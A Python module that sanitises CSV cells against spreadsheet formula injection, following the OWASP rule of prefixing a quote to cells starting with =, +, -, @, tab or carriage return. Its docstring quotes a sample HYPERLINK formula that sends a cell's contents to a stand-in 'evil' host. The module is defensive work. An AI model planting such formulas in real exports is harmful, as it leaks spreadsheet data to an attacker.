"""CSV cells that a spreadsheet shows as text, never runs as a formula (no torch).

File names and class names come from the data: a file called ``=1+2.tif`` or a class called
``=HYPERLINK("http://evil/?"&A1)`` would become a live formula in Excel or LibreOffice. Following the OWASP
rule ("CSV injection"), a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote. Numbers stay numbers: a float or int cell is left alone, and so is text that
is a plain number (``-0.5``, ``+3``, ``1e-4``), which no spreadsheet evaluates as a formula.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from resnet_apps.io.atomic import atomic_write_text

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then ``"'" + value``."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` over a row (a list for ``csv.writer.writerow``)."""
    return [safe_cell(v) for v in row]


def write_csv(
    path: str | os.PathLike[str], columns: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]
) -> None:
    """Write a whole CSV atomically with safe cells; a row is a sequence, or a mapping keyed by column."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(safe_row(columns))
    for row in rows:
        values = [row.get(c, "") for c in columns] if isinstance(row, Mapping) else row
        writer.writerow(safe_row(values))
    atomic_write_text(path, buffer.getvalue())
